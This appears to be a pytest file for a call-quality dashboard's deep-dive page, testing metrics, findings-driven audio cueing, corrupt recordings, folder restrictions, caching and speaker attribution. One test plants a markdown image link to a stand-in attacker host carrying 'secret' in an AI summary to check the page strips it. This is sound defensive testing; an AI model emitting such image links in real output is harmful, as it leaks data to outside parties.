"""Deep dive: deep links, header, players cued by findings, on-the-spot analysis and its failures."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from core.store import open_store

CALL = "20261107-083314_2985954634"  # packet loss + poor quality on the caller leg
FINDINGS = "deep.findings_table"


def _audio(at) -> list:
    return list(at.get("audio"))


def test_deep_link_opens_the_right_call(open_page, corpus_store: Path):
    with open_store(str(corpus_store), read_only=True) as store:
        legs = store.get_analysis(CALL)["legs"]
    at = open_page(call=CALL)
    assert at.title[0].value == CALL
    metrics = {m.label: m.value for m in at.metric}
    assert metrics == {"Duration": "1:12", "Layout": "Channel", "MOS caller": f"{legs['caller']['quality']['mos']:.2f}",
                       "MOS agent": f"{legs['agent']['quality']['mos']:.2f}", "Findings": "3"}
    assert ":red-badge[Packet loss]" in at.markdown[0].value
    assert len(_audio(at)) == 2 and all(a.proto.start_time == 0 for a in _audio(at))
    # waveform x2, speech/silence, MOS windows, findings lane, NISQA sub-scores
    assert len(at.get("vega_lite_chart")) == 6
    findings = at.dataframe(key=FINDINGS).value
    assert list(findings["finding"]) == ["Poor quality", "Packet loss", "Poor quality"]
    assert findings.iloc[1]["when"] == "0:02–1:07"


def test_a_finding_row_cues_the_players(open_page, select_row):
    at = open_page(call=CALL)
    select_row(at, FINDINGS, 2)  # poor quality 30-40 s
    assert [a.proto.start_time for a in _audio(at)] == [30, 30]
    assert any("Players cued to Poor quality on the caller leg at 0:30" in c.value for c in at.caption)
    select_row(at, FINDINGS, 1)
    assert [a.proto.start_time for a in _audio(at)] == [2, 2]


def test_unknown_call_is_a_warning(open_page):
    at = open_page(call="20991231-000000_0000000000")
    assert any(w.value.startswith("**Call not found**") for w in at.warning)
    assert not _audio(at)


def test_without_a_call_the_page_says_how_to_open_one(open_page):
    at = open_page("pages/deep_dive.py")
    assert any("Open a call from" in i.value for i in at.info)


def test_context_and_leg_details_have_no_raw_json(open_page):
    at = open_page(call=CALL)
    frames = [d.value for d in at.dataframe]
    context = next(f for f in frames if list(f.columns) == ["Field", "Value"])
    fields = dict(zip(context["Field"], context["Value"], strict=True))
    assert (fields["Agent"], fields["Carrier"], fields["Server"]) == ("1003", "TELNYX", "10.10.10.11")
    legs = next(f for f in frames if "Measurement" in f.columns)
    assert list(legs.columns) == ["Measurement", "Caller", "Agent"]
    assert legs.set_index("Measurement").loc["SNR", "Caller"].endswith(" dB")
    assert not at.json


def test_corrupt_recording_is_an_error_message(open_page, scratch: Path, empty_store):
    name = "20261107-120000_5550000000"
    (scratch / f"{name}-in.wav").write_bytes(b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 40)
    (scratch / f"{name}-out.wav").write_bytes(b"not audio at all" * 10)
    at = open_page(call=name, folder=str(scratch))
    assert any(e.value.startswith("**The recording cannot be analysed**") for e in at.error)
    assert at.status[0].state == "error" and at.status[0].label == f"Could not analyse {name}"
    with open_store(str(empty_store)) as store:
        assert not store.has_call(name)


def test_folder_outside_the_allowed_ones_is_refused(open_page, tmp_path: Path):
    at = open_page(call="20261107-083314_2985954634x", folder=str(tmp_path))
    assert any("not one of the dashboard's recording folders" in e.value for e in at.error)


def test_an_unanalysed_call_is_analysed_then_cached(open_page, scratch: Path, corpus_dir: Path, empty_store):
    for f in corpus_dir.glob(f"{CALL}-*.wav"):
        if not f.name.endswith(("-all.wav", "-stereo.wav")):
            shutil.copy(f, scratch / f.name)
    at = open_page(call=CALL, folder=str(scratch))
    assert at.title[0].value == CALL
    assert at.status[0].state == "complete" and at.status[0].label.startswith(f"Analysed {CALL} in")
    stages = [m.value for m in at.status[0].markdown]
    assert stages[0] == ":material/check: Decoding the recordings" and len(stages) == 7
    assert any("Packet loss" in m.value for m in at.markdown)
    with open_store(str(empty_store)) as store:
        assert store.has_call(CALL)
    # the recording disappears: the stored analysis still opens, without players
    for f in scratch.iterdir():
        f.unlink()
    at = open_page(call=CALL)
    assert not _audio(at)
    assert any("Recording not available" in c.value for c in at.caption)


def test_stored_ai_summary_is_rendered_safely(open_page, monkeypatch, tmp_path: Path, corpus_store: Path):
    copy = tmp_path / "store.db"
    shutil.copy(corpus_store, copy)
    monkeypatch.setenv("CALLQA_STORE", str(copy))
    with open_store(str(copy)) as store:
        store.save_ai_summary(CALL, analysis_key="k", model="claude-haiku-5-5", prompt_version="summary-v1",
                              verdict="Caller leg lost packets", severity="major",
                              summary="32 dropouts ![x](https://evil.example/?q=secret) on the caller leg.",
                              suspected_cause="Carrier network.")
    at = open_page(call=CALL)
    text = " ".join(m.value for m in at.markdown)
    assert ":orange-badge[Major] **Caller leg lost packets**" in text
    assert "evil.example" not in text and "[image removed: x]" in text
    assert not [b for b in at.button if b.label.startswith("Summarise")]  # no key: no button


# --- a mixed recording: two sides told apart by voice ---------------------------------------------------------
CONFERENCE = "20261107-104610_8228237954"  # the conference mix of the corpus: two voices, nobody enrolled


@pytest.fixture
def own_store(corpus_store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A private copy of the corpus store (the test writes to it)."""
    path = tmp_path / "store.db"
    shutil.copy(corpus_store, path)
    monkeypatch.setenv("CALLQA_STORE", str(path))
    return path


def test_a_mixed_call_shows_its_two_sides_and_how_they_were_attributed(open_page, corpus_store: Path):
    with open_store(str(corpus_store), read_only=True) as store:
        doc = store.get_analysis(CONFERENCE)
    sides = doc["attribution"]["sides"]
    assert len(sides) == 2
    at = open_page(call=CONFERENCE)
    metrics = {m.label for m in at.metric}
    assert {f"MOS {side.replace('_', ' ')}" for side in sides} <= metrics  # each side has its MOS
    boxes = [b.value for b in (*at.success, *at.info, *at.warning)]
    assert any("voiceprint" in b.lower() or "not attributed" in b.lower() or "layout" in b.lower() for b in boxes)
    assert len(_audio(at)) == 1  # the mix plays both sides
    activity = at.get("vega_lite_chart")[1].proto.spec  # speech/silence lanes, one per side and the mix
    for side in sides:
        assert {"speaker_a": "Speaker A", "speaker_b": "Speaker B", "caller": "Caller", "agent": "Agent"}[side] in activity


def test_marking_the_agents_voice_names_the_sides(open_page, own_store: Path):
    with open_store(str(own_store), read_only=True) as store:
        before = store.get_analysis(CONFERENCE)
    first, second = before["attribution"]["sides"]
    target = second if first == "speaker_a" else "caller"  # unattributed: pick speaker_b; attributed: swap
    at = open_page(call=CONFERENCE)
    buttons = [b for b in at.button if b.key and b.key.startswith("deep.mark_agent.")]
    assert buttons, [b.key for b in at.button]
    next(b for b in buttons if b.key.endswith("." + target)).click().run(timeout=120)
    assert not at.exception, [e.value for e in at.exception]
    with open_store(str(own_store), read_only=True) as store:
        after = store.get_analysis(CONFERENCE)
    assert after["attribution"]["method"] == "manual" and after["attribution"]["confidence"] == 1.0
    assert after["legs"]["agent"]["speech"] == before["legs"][target]["speech"]
    assert any("Marked by an analyst" in b.value for b in at.success)
